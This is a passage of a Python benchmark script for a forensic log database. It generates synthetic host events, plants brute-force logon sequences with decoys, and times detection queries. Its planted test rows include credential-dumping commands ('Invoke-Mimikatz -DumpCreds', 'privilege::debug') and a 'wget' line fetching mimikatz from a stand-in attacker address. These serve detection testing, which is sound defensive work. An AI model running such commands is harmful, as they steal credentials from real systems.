"""Query latency of the case database on a realistic ``events`` table (default 10M rows).

The data set: ~50 hosts (web/app/db Linux servers, domain controllers, Windows workstations)
over 30 days (March 2026, with a day/night rhythm), ~2,000 users, ~20,000 source addresses
(both skewed: a few are very common), event types in the proportions those hosts produce (most
``http_request`` and ``other``; logons, logoffs, processes, file-system times, ...), every
provenance column filled (bundle, member, member SHA-256, record_ref, parser, version). Planted
on known hosts and times: brute-force sequences (N >= 20 failures, then a success, from one
address within 10 minutes) and decoys the query must not report (19 failures; failures spread
over 25 minutes; no success; the success from another address; the success 11 minutes late),
plus a few ``mimikatz`` rows for the text search.

It is generated like the real ingest writes it: one Parquet file per (host, log member), rows
written through ``arrow_rows.ParquetSink`` (one file per member, 64k-row batches: memory
stays bounded), hosts spread over one process per core; then ``CaseDatabase.insert_events`` and
``sort_events()``. The database is cached under ``bench/out/query/<events>/`` and reused while
its parameters match (``--rebuild`` forces a new one).

Measured (database opened with ``CaseDatabase(path, read_only=True)``; 1 warm-up, then the
median of ``--runs`` runs, rows fetched to Python), each also as a ratio to a reference full
scan ``SELECT count(*) FROM events WHERE message IS NOT NULL``:

1. ``timeline``: the SQL ``sealtrail timeline --start --end --host`` runs (``TimelineFilter``
   with ``SUMMARY_COLUMNS``), one hour on one busy host;
2. failures per user over one day;
3. brute force: a window function over the addresses that can match (prefilter on 10-minute
   buckets); for comparison the plain window query and the self-join from docs/schema.md; all
   are asserted to find exactly the planted sequences;
4. ``message ILIKE '%mimikatz%'`` over every row (for reference).

Usage::

    python bench/bench_query.py              # 10M events
    python bench/bench_query.py --quick      # 1M events smoke run
    python bench/bench_query.py --events 3000000 --runs 7
"""

from __future__ import annotations

import argparse
import bisect
import hashlib
import json
import multiprocessing
import os
import platform
import random
import shutil
import statistics
import sys
import time
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

from machine import cpu_model  # bench/machine.py (bench/ is on sys.path)

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))


from sealtrail.analysis.arrow_rows import EVENTS_SCHEMA, ParquetSink  # noqa: E402
from sealtrail.analysis.schema import EVENT_COLUMNS  # noqa: E402
from sealtrail.analysis.store import CaseDatabase  # noqa: E402
from sealtrail.analysis.timeline import SUMMARY_COLUMNS, TimelineFilter  # noqa: E402

OUT = HERE / "out" / "query"
DATA_VERSION = 2  # 2: events has event_uid
SEED = 20260301
START = datetime(2026, 3, 1, tzinfo=UTC)
DAYS = 30
US = 1_000_000
START_US = int(START.timestamp()) * US
SPAN_US = DAYS * 86400 * US

NAMES = [name for name, _, _ in EVENT_COLUMNS]
COL = {name: i for i, name in enumerate(NAMES)}

# what the queries ask about (their answers are computed while generating)
Q_HOST = "web02"
Q_HOUR = datetime(2026, 3, 17, 14, tzinfo=UTC)
Q_DAY = datetime(2026, 3, 17, tzinfo=UTC)
BRUTE_N = 20
BRUTE_WINDOW_MIN = 10
NEEDLE = "mimikatz"

# ---------------------------------------------------------------------------------------------
# hosts, users, addresses


def _hosts() -> list[tuple[str, str, float]]:
    """(name, role, share weight): 50 hosts."""
    hosts = [(f"web{i:02d}", "web", 4.0) for i in range(1, 9)]
    hosts += [(f"app{i:02d}", "app", 1.5) for i in range(1, 13)]
    hosts += [(f"db{i:02d}", "db", 1.0) for i in range(1, 7)]
    hosts += [(f"dc{i:02d}", "dc", 4.0) for i in range(1, 4)]
    hosts += [(f"ws{i:03d}", "ws", 0.6) for i in range(1, 22)]
    return hosts


_FIRST = ("anna ben carla dan eva finn gina hugo ines jan kim lars mia nils olga paul rosa sam "
          "tina uwe vera will xena yann zoe").split()
_LAST = ("adams baker clark davis evans fox green hill irwin jones king lee moore nash owen "
         "price quinn reed scott turner underwood vance walsh young zimmer brown carter dunn "
         "ellis ford gray hayes jordan kelly lane mason nolan ortiz perry ross stone tate "
         "usher vogel wade xu york zeller banks cole drake ".split())


def _users() -> list[str]:
    users = ["root", "admin", "Administrator", "svc_backup", "svc_sql", "www-data", "deploy"]
    i = 0
    while len(users) < 2000:
        users.append(f"{_FIRST[i % len(_FIRST)]}.{_LAST[(i // len(_FIRST)) % len(_LAST)]}"
                     + (str(i // (len(_FIRST) * len(_LAST))) if i >= len(_FIRST) * len(_LAST)
                        else ""))
        i += 1
    return users


def _ips(rng: random.Random) -> list[str]:
    """8,000 internal and 12,000 external addresses (never 203.0.113/24 or 198.51.100/24,
    which are the planted attackers')."""
    ips: set[str] = set()
    while len(ips) < 8000:
        ips.add(f"10.{rng.randint(0, 31)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}")
    while len(ips) < 20000:
        a = rng.choice((23, 31, 45, 62, 77, 81, 89, 91, 104, 141, 176, 185, 193, 212, 217))
        ips.add(f"{a}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}")
    out = sorted(ips)
    rng.shuffle(out)
    return out


class Skewed:
    """Zipf-like choice from a list by table lookup (fast in a per-row loop)."""

    def __init__(self, rng: random.Random, items: list, exponent: float, bits: int = 16) -> None:
        weights = [1 / (rank + 1) ** exponent for rank in range(len(items))]
        self.table = rng.choices(items, weights=weights, k=1 << bits)
        self.bits = bits

    def pick(self, rng: random.Random):
        return self.table[rng.getrandbits(self.bits)]


# event-type mix per role (weights)
MIX = {
    "web": {"http_request": 70, "other": 14, "logon_success": 1.5, "logon_failure": 3,
            "logoff": 1.5, "privilege_use": 0.8, "process_start": 3, "file_modified": 1.5,
            "file_accessed": 1.5, "file_changed": 1.0, "shell_command": 0.3,
            "service_state": 0.5, "package_change": 0.2, "system_boot": 0.01},
    "app": {"http_request": 30, "other": 40, "process_start": 8, "logon_success": 2.5,
            "logon_failure": 1.5, "logoff": 2.5, "privilege_use": 1.5, "file_modified": 4,
            "file_accessed": 3, "file_changed": 2, "shell_command": 0.5, "service_state": 1,
            "package_change": 0.3, "system_boot": 0.01},
    "db": {"other": 55, "process_start": 10, "logon_success": 3, "logon_failure": 1.5,
           "logoff": 3, "privilege_use": 2, "file_modified": 5, "file_accessed": 4,
           "file_changed": 3, "shell_command": 0.5, "service_state": 1, "package_change": 0.3,
           "system_boot": 0.01},
    "dc": {"logon_success": 25, "logon_failure": 6, "logoff": 20, "privilege_use": 10,
           "other": 25, "process_start": 5, "process_end": 4, "account_changed": 0.5,
           "group_membership_changed": 0.2, "service_state": 2, "network_connection": 3,
           "account_created": 0.05, "system_boot": 0.01},
    "ws": {"process_start": 20, "process_end": 15, "network_connection": 15, "other": 25,
           "logon_success": 6, "logoff": 5, "logon_failure": 1, "privilege_use": 2,
           "service_state": 3, "file_modified": 3, "file_accessed": 2, "file_changed": 1,
           "scheduled_task_created": 0.1, "service_installed": 0.1, "system_boot": 0.02},
}
# relative activity by hour of day (UTC), mean 1
_HOURLY = [0.35, 0.3, 0.3, 0.3, 0.35, 0.5, 0.8, 1.2, 1.6, 1.7, 1.7, 1.6, 1.5, 1.6, 1.7, 1.7,
           1.6, 1.4, 1.1, 0.9, 0.8, 0.7, 0.55, 0.45]
_HOURLY = [h * 24 / sum(_HOURLY) for h in _HOURLY]

EVTX = "C:\\Windows\\System32\\winevt\\Logs\\"
_SEC = EVTX + "Security.evtx"
_SYS = EVTX + "System.evtx"
_SYSMON = EVTX + "Microsoft-Windows-Sysmon%4Operational.evtx"
_PS = EVTX + "Microsoft-Windows-PowerShell%4Operational.evtx"
_URLS = ["/", "/index.html", "/login", "/api/v1/items", "/api/v1/orders", "/api/v1/users/me",
         "/static/app.js", "/static/site.css", "/favicon.ico", "/health", "/search",
         "/wp-login.php", "/.env", "/admin", "/cart", "/checkout", "/images/logo.png"]
_AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0", "curl/8.5.0",
           "Mozilla/5.0 (X11; Linux x86_64) Firefox/123.0", "python-requests/2.31",
           "Googlebot/2.1", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3) Safari/604.1"]
_LINUX_PROCS = ["/usr/bin/python3", "/usr/sbin/nginx", "/usr/bin/bash", "/usr/bin/curl",
                "/usr/bin/ls", "/usr/bin/grep", "/usr/sbin/cron", "/usr/bin/tar", "/usr/bin/ssh",
                "/usr/lib/postgresql/16/bin/postgres", "/usr/bin/java", "/usr/bin/rsync"]
_WIN_PROCS = ["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
              "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
              "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"
              "\\powershell.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
              "OUTLOOK.EXE", "C:\\Windows\\System32\\taskhostw.exe",
              "C:\\Windows\\System32\\conhost.exe", "C:\\Windows\\System32\\lsass.exe"]
_SYSLOG_OTHER = ["systemd[1]: Started Session {n} of User {u}.",
                 "CRON[{n}]: (root) CMD (run-parts /etc/cron.hourly)",
                 "kernel: [UFW BLOCK] IN=eth0 SRC={ip} DST=10.0.0.5 PROTO=TCP DPT=23",
                 "systemd-resolved[{n}]: Using degraded feature set UDP for DNS server",
                 "rsyslogd: action 'action-1-builtin:omfile' resumed",
                 "dhclient[{n}]: DHCPACK of 10.0.0.5 from 10.0.0.1",
                 "postgres[{n}]: LOG:  checkpoint complete: wrote {n} buffers",
                 "nginx[{n}]: upstream timed out while reading response header from {ip}"]
_WIN_OTHER = [(5379, "Security", "Credential Manager credentials were read."),
              (4798, "Security", "A user's local group membership was enumerated."),
              (5156, "Security", "The Windows Filtering Platform has permitted a connection."),
              (10016, "System", "The application-specific permission settings do not grant "
                                "Local Activation permission."),
              (4104, "Microsoft-Windows-PowerShell/Operational", "Creating Scriptblock text"),
              (16, "System", "The access history in hive was cleared."),
              (1014, "System", "Name resolution for the name wpad timed out.")]


# ---------------------------------------------------------------------------------------------
# rows


class Member:
    """One log member of one host's bundle: provenance and a record counter."""

    def __init__(self, host: str, bundle_id: str, path: str, parser: str, ref: str) -> None:
        self.bundle_id = bundle_id
        self.path = path
        self.sha256 = hashlib.sha256(f"{bundle_id}:{path}".encode()).hexdigest()
        self.parser = parser
        self.ref = ref
        self.records = 0
        self.file = host + "__" + hashlib.sha256(path.encode()).hexdigest()[:12]


def _row(ts: int, host: str, member: Member, **fields) -> list:
    row = [None] * len(NAMES)
    for key, value in fields.items():
        row[COL[key]] = value
    member.records += 1
    row[COL["ts"]] = ts
    row[COL["host"]] = host
    row[COL["source"]] = member.parser
    row[COL["bundle_id"]] = member.bundle_id
    row[COL["member_path"]] = member.path
    row[COL["member_sha256"]] = member.sha256
    row[COL["record_ref"]] = f"{member.ref}{member.records}"
    row[COL["parser"]] = member.parser
    row[COL["parser_version"]] = "1"
    return row


class HostGen:
    def __init__(self, host: str, role: str, seed: int, pools: dict) -> None:
        self.host = host
        self.role = role
        self.windows = role in ("dc", "ws")
        self.rng = random.Random(seed)
        self.users: Skewed = pools["users"]
        self.ips: Skewed = pools["ips"]
        self.internal: Skewed = pools["internal"]
        bundle = hashlib.sha256(f"bundle:{host}".encode()).hexdigest()[:32]
        self.bundle = bundle
        self.members: dict[str, Member] = {}
        self.files = [f"/etc/{n}" for n in ("passwd", "shadow", "hosts", "crontab")] + [
            f"/var/www/html/{n}" for n in ("index.php", "config.php", "upload.php")] + [
            f"/home/user{i}/.bashrc" for i in range(40)] + [f"/opt/app/lib/mod{i}.py"
                                                             for i in range(200)]
        if self.windows:
            self.files = [f"C:\\Users\\user{i}\\NTUSER.DAT" for i in range(40)] + [
                f"C:\\Windows\\System32\\drivers\\d{i}.sys" for i in range(200)]
        types = MIX[role]
        self.types = list(types)
        self.cum = []
        total = 0.0
        for t in self.types:
            total += types[t]
            self.cum.append(total)
        self.total = total

    def member(self, path: str, parser: str, ref: str) -> Member:
        m = self.members.get(path)
        if m is None:
            m = self.members[path] = Member(self.host, self.bundle, path, parser, ref)
        return m

    def pick_type(self) -> str:
        return self.types[bisect.bisect(self.cum, self.rng.random() * self.total)]

    def event(self, ts: int, etype: str) -> list:
        """One background event of this type on this host."""
        rng = self.rng
        host = self.host
        if etype == "http_request":
            m = self.member("/var/log/nginx/access.log", "web_access", "line:")
            ip = self.ips.pick(rng)
            url = _URLS[rng.getrandbits(16) % len(_URLS)]
            status = (200, 200, 200, 200, 304, 302, 404, 500)[rng.getrandbits(3)]
            size = rng.getrandbits(14)
            agent = _AGENTS[rng.getrandbits(8) % len(_AGENTS)]
            return _row(ts, host, m, ts_desc="request received", event_type=etype, src_ip=ip,
                        path=url, message=f"GET {url} -> {status} ({size} bytes)",
                        attributes=f'{{"method":"GET","status":{status},"bytes":{size},'
                                   f'"user_agent":"{agent}","protocol":"HTTP/1.1"}}')
        if etype.startswith("file_"):
            m_path = self.files[rng.getrandbits(16) % len(self.files)]
            m = self.member(m_path, "manifest_fs", "manifest:")
            key = {"file_modified": "mtime", "file_accessed": "atime",
                   "file_changed": "ctime"}[etype]
            return _row(ts, host, m, ts_desc=key, event_type=etype, path=m_path,
                        message=f"{m_path} {key}",
                        attributes=f'{{"mode":"0644","uid":0,"gid":0,"size":{rng.getrandbits(16)}'
                                   f',"kind":"file","outcome":"collected"}}')
        if self.windows:
            return self._windows(ts, etype)
        return self._linux(ts, etype)

    def _linux(self, ts: int, etype: str) -> list:
        rng = self.rng
        host = self.host
        user = self.users.pick(rng)
        if etype in ("logon_success", "logon_failure", "logoff", "privilege_use"):
            m = self.member("/var/log/auth.log", "syslog", "line:")
            pid = rng.randint(1000, 99999)
            if etype == "privilege_use":
                return _row(ts, host, m, ts_desc="syslog entry written", event_type=etype,
                            user=user, process="sudo", target_user="root",
                            command_line="/usr/bin/systemctl restart nginx",
                            message=f"sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
                                    "COMMAND=/usr/bin/systemctl restart nginx")
            if etype == "logoff":
                return _row(ts, host, m, ts_desc="syslog entry written", event_type=etype,
                            user=user, process="sshd",
                            message=f"sshd[{pid}]: pam_unix(sshd:session): session closed for "
                                    f"user {user}")
            ip = self.internal.pick(rng) if etype == "logon_success" else self.ips.pick(rng)
            port = rng.randint(1024, 65535)
            text = (f"Accepted publickey for {user}" if etype == "logon_success"
                    else f"Failed password for {user}")
            return _row(ts, host, m, ts_desc="syslog entry written", event_type=etype,
                        user=user, src_ip=ip, src_port=port, process="sshd",
                        message=f"sshd[{pid}]: {text} from {ip} port {port} ssh2",
                        attributes=f'{{"pid":{pid},"method":"publickey"}}')
        if etype == "process_start":
            m = self.member("/var/log/audit/audit.log", "auditd", "line:")
            proc = _LINUX_PROCS[rng.getrandbits(16) % len(_LINUX_PROCS)]
            return _row(ts, host, m, ts_desc="audit event recorded", event_type=etype, user=user,
                        process=proc, command_line=f"{proc} --job {rng.getrandbits(12)}",
                        parent_process="/usr/bin/bash", message=f"EXECVE {proc} by {user}",
                        attributes=f'{{"audit_id":{m.records + 1},"syscall":59}}')
        if etype == "shell_command":
            m = self.member("/root/.bash_history", "shell_history", "line:")
            return _row(ts, host, m, ts_desc="history entry time", event_type=etype, user="root",
                        command_line="tail -f /var/log/syslog",
                        message="tail -f /var/log/syslog")
        if etype == "package_change":
            m = self.member("/var/log/dpkg.log", "package_logs", "line:")
            return _row(ts, host, m, ts_desc="dpkg action logged", event_type=etype,
                        message="upgrade openssl:amd64 3.0.11-1 3.0.13-1")
        m = self.member("/var/log/syslog", "syslog", "line:")
        if etype == "service_state":
            return _row(ts, host, m, ts_desc="syslog entry written", event_type=etype,
                        service_name="nginx.service", process="systemd",
                        message="systemd[1]: Started nginx.service - A high performance web "
                                "server.")
        if etype == "system_boot":
            return _row(ts, host, m, ts_desc="syslog entry written", event_type=etype,
                        process="kernel", message="kernel: Linux version 6.1.0-18-amd64")
        n = rng.getrandbits(14)
        text = _SYSLOG_OTHER[n % len(_SYSLOG_OTHER)]
        message = None if n % 200 == 0 else text.format(n=n, u=user, ip=self.ips.pick(rng))
        return _row(ts, host, m, ts_desc="syslog entry written", event_type="other",
                    message=message)

    def _windows(self, ts: int, etype: str) -> list:
        rng = self.rng
        host = self.host
        computer = f"{host.upper()}.corp.example.com"
        user = self.users.pick(rng)
        rid = 1000 + (zlib.crc32(user.encode()) & 0xFFF)
        sid = f"S-1-5-21-3623811015-3361044348-30300820-{rid}"
        sec = {"channel": "Security", "computer": computer, "ts_desc": "event logged"}
        if etype in ("logon_success", "logon_failure", "logoff"):
            m = self.member(_SEC, "winevtx", "record:")
            eid = {"logon_success": 4624, "logon_failure": 4625, "logoff": 4634}[etype]
            ltype = (3, 3, 3, 2, 10, 5)[rng.getrandbits(16) % 6]
            ip = (None if etype == "logoff" else
                  self.internal.pick(rng) if etype == "logon_success" else self.ips.pick(rng))
            what = {4624: "An account was successfully logged on.",
                    4625: "An account failed to log on.", 4634: "An account was logged off."}
            return _row(ts, host, m, event_type=etype, event_id=eid, user=user, src_ip=ip,
                        src_port=rng.randint(1024, 65535) if ip else None, logon_type=ltype,
                        target_user=user, target_sid=sid, subject_user=f"{host.upper()}$",
                        message=f"{eid}: {what[eid]} {user} (type {ltype})"
                                + (f" from {ip}" if ip else ""),
                        attributes=f'{{"LogonType":{ltype},"TargetDomainName":"CORP",'
                                   f'"AuthenticationPackageName":"Kerberos"}}', **sec)
        if etype == "privilege_use":
            m = self.member(_SEC, "winevtx", "record:")
            return _row(ts, host, m, event_type=etype, event_id=4672, user=user,
                        subject_user=user, subject_sid=sid,
                        message=f"4672: Special privileges assigned to new logon: {user}",
                        attributes='{"PrivilegeList":"SeDebugPrivilege SeBackupPrivilege"}',
                        **sec)
        if etype in ("process_start", "process_end") and (self.role == "dc" or
                                                          rng.getrandbits(1)):
            m = self.member(_SEC, "winevtx", "record:")
            proc = _WIN_PROCS[rng.getrandbits(16) % len(_WIN_PROCS)]
            eid = 4688 if etype == "process_start" else 4689
            return _row(ts, host, m, event_type=etype, event_id=eid, user=user, process=proc,
                        subject_user=user, subject_sid=sid,
                        command_line=f'"{proc}"' if eid == 4688 else None,
                        parent_process="C:\\Windows\\explorer.exe" if eid == 4688 else None,
                        message=f"{eid}: process {proc} by {user}", **sec)
        if etype in ("process_start", "process_end", "network_connection"):
            m = self.member(_SYSMON, "winevtx", "record:")
            proc = _WIN_PROCS[rng.getrandbits(16) % len(_WIN_PROCS)]
            extra = {"channel": "Microsoft-Windows-Sysmon/Operational", "computer": computer,
                     "ts_desc": "event logged"}
            if etype == "network_connection":
                dst = self.ips.pick(rng)
                return _row(ts, host, m, event_type=etype, event_id=3, user=user, process=proc,
                            src_ip=f"10.20.{int(host[2:]) % 256}.{10 + int(host[2:]) % 200}",
                            src_port=rng.randint(49152, 65535), dst_ip=dst,
                            message=f"Sysmon 3: {proc} connected to {dst}:443",
                            attributes='{"Protocol":"tcp","DestinationPort":443}', **extra)
            eid = 1 if etype == "process_start" else 5
            return _row(ts, host, m, event_type=etype, event_id=eid, user=user, process=proc,
                        command_line=f'"{proc}" /c task{rng.getrandbits(10)}',
                        parent_process="C:\\Windows\\explorer.exe",
                        message=f"Sysmon {eid}: {proc}",
                        attributes=f'{{"ProcessId":{rng.getrandbits(15)},"Hashes":"SHA256='
                                   f'{rng.getrandbits(64):016X}"}}', **extra)
        if etype in ("account_changed", "account_created", "group_membership_changed",
                     "scheduled_task_created", "service_installed"):
            m = self.member(_SEC, "winevtx", "record:")
            eid = {"account_changed": 4738, "account_created": 4720,
                   "group_membership_changed": 4732, "scheduled_task_created": 4698,
                   "service_installed": 4697}[etype]
            return _row(ts, host, m, event_type=etype, event_id=eid, subject_user="admin",
                        target_user=user, task_name="\\Microsoft\\Update" if eid == 4698 else None,
                        service_name="UpdaterSvc" if eid == 4697 else None,
                        message=f"{eid}: {etype.replace('_', ' ')}: {user}", **sec)
        m = self.member(_SYS, "winevtx", "record:")
        sys_ = {"channel": "System", "computer": computer, "ts_desc": "event logged"}
        if etype == "service_state":
            return _row(ts, host, m, event_type=etype, event_id=7036, service_name="BITS",
                        message="7036: The Background Intelligent Transfer Service service "
                                "entered the running state.", **sys_)
        if etype == "system_boot":
            return _row(ts, host, m, event_type=etype, event_id=6005,
                        message="6005: The Event log service was started.", **sys_)
        eid, channel, text = _WIN_OTHER[rng.getrandbits(16) % len(_WIN_OTHER)]
        if channel != "System":
            m = self.member(_SEC if channel == "Security" else _PS, "winevtx", "record:")
        return _row(ts, host, m, event_type="other", event_id=eid, channel=channel,
                    computer=computer, ts_desc="event logged", user=user,
                    script_block="Get-ChildItem C:\\Users" if eid == 4104 else None,
                    message=f"{eid}: {text}")


# ---------------------------------------------------------------------------------------------
# planted events (ground truth)


def _at(day: int, hour: int, minute: int, second: int = 0) -> int:
    return START_US + (((day - 1) * 24 + hour) * 3600 + minute * 60 + second) * US


def _planted() -> tuple[list[tuple[str, int, str, dict]], list[dict], int]:
    """(host, ts, event type, fields) rows; the brute-force hits; the needle rows."""
    rng = random.Random(SEED + 7)
    rows: list[tuple[str, int, str, dict]] = []
    hits: list[dict] = []

    def sequence(host: str, ip: str, user: str, t0: int, failures: int, gap_s: float,
                 success_after_s: float | None, success_ip: str | None = None) -> int | None:
        t = t0
        for _ in range(failures):
            rows.append((host, t, "logon_failure", {"src_ip": ip, "user": user}))
            t += int(gap_s * US * rng.uniform(0.7, 1.3))
        if success_after_s is None:
            return None
        ts = t - int(gap_s * US) + int(success_after_s * US)
        rows.append((host, ts, "logon_success", {"src_ip": success_ip or ip, "user": user}))
        return ts

    # true positives: N >= 20 failures then a success, from one address, within 10 minutes
    for host, ip, user, when, n, gap in (
        ("web01", "203.0.113.10", "root", _at(3, 2, 17, 5), 20, 8),
        ("web01", "203.0.113.11", "admin", _at(9, 23, 41, 0), 64, 4),
        ("web05", "203.0.113.12", "deploy", _at(14, 4, 2, 30), 23, 12),
        ("app03", "198.51.100.20", "www-data", _at(17, 14, 20, 0), 31, 2),
        ("db02", "198.51.100.21", "postgres", _at(21, 9, 59, 50), 48, 6),
        ("dc01", "203.0.113.30", "Administrator", _at(25, 1, 5, 0), 100, 1.5),
        ("dc02", "198.51.100.31", "svc_sql", _at(28, 18, 30, 0), 22, 20),
        ("ws007", "203.0.113.32", "anna.adams", _at(30, 23, 40, 0), 35, 3),
    ):
        ts = sequence(host, ip, user, when, n, gap, 15)
        hits.append({"src_ip": ip, "host": host, "user": user, "success_us": ts})
    # decoys
    sequence("web02", "203.0.113.50", "root", _at(5, 3, 0), 19, 5, 10)      # 19 failures
    sequence("web03", "203.0.113.51", "admin", _at(6, 3, 0), 30, 50, 30)    # over 25 minutes
    sequence("app01", "198.51.100.52", "root", _at(7, 3, 0), 45, 3, None)   # no success
    sequence("app02", "198.51.100.53", "deploy", _at(8, 3, 0), 25, 5, 30,   # success elsewhere
             success_ip="198.51.100.54")
    sequence("dc03", "203.0.113.55", "Administrator", _at(12, 3, 0), 25, 5, 660)  # 11 min late
    # the text search needle (a few rows on Windows hosts and one Linux host)
    needles = [("ws003", _at(4, 10, 12), "other", {"event_id": 4104,
                "script_block": "Invoke-Mimikatz -DumpCreds",
                "channel": "Microsoft-Windows-PowerShell/Operational",
                "message": "4104: Creating Scriptblock text: Invoke-Mimikatz -DumpCreds"}),
               ("ws003", _at(4, 10, 13), "process_start", {
                   "event_id": 1, "process": "C:\\Users\\Public\\mimikatz.exe",
                   "message": "Sysmon 1: C:\\Users\\Public\\MIMIKATZ.exe privilege::debug"}),
               ("dc01", _at(25, 1, 20), "process_start", {
                   "event_id": 4688, "process": "C:\\Windows\\Temp\\m.exe",
                   "message": "4688: process C:\\Windows\\Temp\\m.exe (mimikatz) by "
                              "Administrator"}),
               ("web01", _at(9, 23, 55), "shell_command", {
                   "message": "wget http://203.0.113.11/mimikatz.tar.gz"})]
    rows.extend(needles)
    return rows, hits, len(needles)


def _planted_row(gen: HostGen, ts: int, etype: str, fields: dict) -> list:
    """A planted event in the same member and shape as the host's own events of that type."""
    fields = dict(fields)
    if etype in ("logon_failure", "logon_success"):
        row = gen.event(ts, etype)
        ip, user = fields["src_ip"], fields["user"]
        row[COL["src_ip"]] = ip
        row[COL["user"]] = user
        if gen.windows:
            row[COL["target_user"]] = user
            row[COL["message"]] = (f"{4624 if etype == 'logon_success' else 4625}: "
                                   f"{'An account was successfully logged on' if etype == 'logon_success' else 'An account failed to log on'}. "  # noqa: E501
                                   f"{user} (type 10) from {ip}")
        else:
            verb = "Accepted password" if etype == "logon_success" else "Failed password"
            row[COL["message"]] = f"sshd[4242]: {verb} for {user} from {ip} port 4242 ssh2"
        return row
    row = gen.event(ts, etype)
    for key, value in fields.items():
        row[COL[key]] = value
    return row


# ---------------------------------------------------------------------------------------------
# generation


def _host_stream(gen: HostGen, n: int, planted: list[tuple[int, str, dict]],
                 counts: dict) -> Iterator[tuple[Member, list]]:
    """n background events in time order with the planted ones merged in, and what the
    queries should find counted on the way."""
    rng = gen.rng
    planted = sorted(planted, key=lambda p: p[0])
    pi = 0
    mean_gap = SPAN_US / n
    t = float(START_US)
    hour_lo, hour_hi = int(Q_HOUR.timestamp()) * US, int(Q_HOUR.timestamp() + 3600) * US
    day_lo, day_hi = int(Q_DAY.timestamp()) * US, int(Q_DAY.timestamp() + 86400) * US
    is_q_host = gen.host == Q_HOST
    end = START_US + SPAN_US - 1
    for _ in range(n):
        t += rng.expovariate(1.0) * mean_gap / _HOURLY[int((t - START_US) // 3_600_000_000) % 24]
        ts = min(int(t), end)
        while pi < len(planted) and planted[pi][0] <= ts:
            p_ts, p_type, p_fields = planted[pi]
            pi += 1
            yield from _counted(gen, _planted_row(gen, p_ts, p_type, p_fields), counts,
                                is_q_host, hour_lo, hour_hi, day_lo, day_hi)
        yield from _counted(gen, gen.event(ts, gen.pick_type()), counts, is_q_host,
                            hour_lo, hour_hi, day_lo, day_hi)
    for p_ts, p_type, p_fields in planted[pi:]:
        yield from _counted(gen, _planted_row(gen, p_ts, p_type, p_fields), counts, is_q_host,
                            hour_lo, hour_hi, day_lo, day_hi)


def _counted(gen: HostGen, row: list, counts: dict, is_q_host: bool, hour_lo: int,
             hour_hi: int, day_lo: int, day_hi: int) -> Iterator[tuple[Member, list]]:
    ts = row[0]
    if is_q_host and hour_lo <= ts < hour_hi:
        counts["q1_rows"] += 1
    if day_lo <= ts < day_hi and row[COL["event_type"]] == "logon_failure":
        counts["q2_failures"] += 1
    counts["rows"] += 1
    yield gen.members[row[COL["member_path"]]], row


def _generate_host(args: tuple) -> dict:
    """Write one host's member files; returns the counts."""
    index, host, role, n, planted, pools_seed, parts = args
    pools = _pools(pools_seed)
    gen = HostGen(host, role, SEED * 1000 + index, pools)
    counts = {"rows": 0, "q1_rows": 0, "q2_failures": 0}
    # One Parquet file per log member, as the parse workers write them (file-system times: one
    # manifest_fs file per bundle, as ingest writes it); each ParquetSink holds at most one
    # batch, so memory stays bounded whatever the host's size.
    sinks: dict[str, ParquetSink] = {}
    for member, row in _host_stream(gen, n, planted, counts):
        key = f"{host}__manifest_fs" if member.parser == "manifest_fs" else member.file
        sink = sinks.get(key)
        if sink is None:
            sink = sinks[key] = ParquetSink(parts / f"{key}.parquet", EVENTS_SCHEMA)
        sink.add(row)
    for sink in sinks.values():
        sink.close()
    counts["files"] = len(sinks)
    return counts


_POOLS: dict[int, dict] = {}


def _pools(seed: int) -> dict:
    if seed not in _POOLS:
        rng = random.Random(seed)
        ips = _ips(rng)
        _POOLS[seed] = {
            "users": Skewed(rng, _users(), 0.9),
            "ips": Skewed(rng, ips, 0.7),
            "internal": Skewed(rng, [ip for ip in ips if ip.startswith("10.")], 0.8),
        }
    return _POOLS[seed]


def build(db_path: Path, events: int, workers: int) -> dict:
    hosts = _hosts()
    weight = sum(w for _, _, w in hosts)
    planted, hits, needles = _planted()
    n_planted = {h: sum(1 for p in planted if p[0] == h) for h, _, _ in hosts}
    background = events - len(planted)
    shares = [round(background * w / weight) for _, _, w in hosts]
    shares[0] += background - sum(shares)
    parts = db_path.parent / "parts"
    shutil.rmtree(parts, ignore_errors=True)
    parts.mkdir(parents=True)
    tasks = [(i, h, role, shares[i], [(ts, t, f) for ph, ts, t, f in planted if ph == h],
              SEED, parts) for i, (h, role, _) in enumerate(hosts)]
    tasks.sort(key=lambda task: -task[3])
    t0 = time.perf_counter()
    totals = {"rows": 0, "q1_rows": 0, "q2_failures": 0, "files": 0}
    with multiprocessing.get_context("fork").Pool(workers) as pool:
        for counts in pool.imap_unordered(_generate_host, tasks):
            for key in totals:
                totals[key] += counts[key]
    gen_s = time.perf_counter() - t0
    assert totals["rows"] == events, (totals, events)
    files = sorted(parts.glob("*.parquet"))
    parquet_bytes = sum(f.stat().st_size for f in files)
    if db_path.exists():
        db_path.unlink()
    t0 = time.perf_counter()
    with CaseDatabase(db_path) as db:
        db.insert_events(files, ordered=False)  # derives event_uid as the ingest does
        loaded = db.count("events")
        load_s = time.perf_counter() - t0
        t1 = time.perf_counter()
        db.sort_events()
        sort_s = time.perf_counter() - t1
    assert loaded == events, (loaded, events)
    shutil.rmtree(parts)
    return {
        "events": events, "seed": SEED, "version": DATA_VERSION, "hosts": len(hosts),
        "planted_rows": len(planted), "planted_per_host": {k: v for k, v in n_planted.items()
                                                           if v},
        "hits": hits, "needles": needles, "q1_rows": totals["q1_rows"],
        "q2_failures": totals["q2_failures"], "parquet_files": len(files),
        "parquet_bytes": parquet_bytes, "generate_s": gen_s, "load_s": load_s,
        "sort_s": sort_s, "db_bytes": db_path.stat().st_size, "workers": workers,
    }


# ---------------------------------------------------------------------------------------------
# queries


def brute_force_window_sql(n: int = BRUTE_N, minutes: int = BRUTE_WINDOW_MIN) -> str:
    return f"""
WITH auth AS (
    SELECT ts, host, "user", src_ip, event_type,
           count(*) FILTER (WHERE event_type = 'logon_failure') OVER (
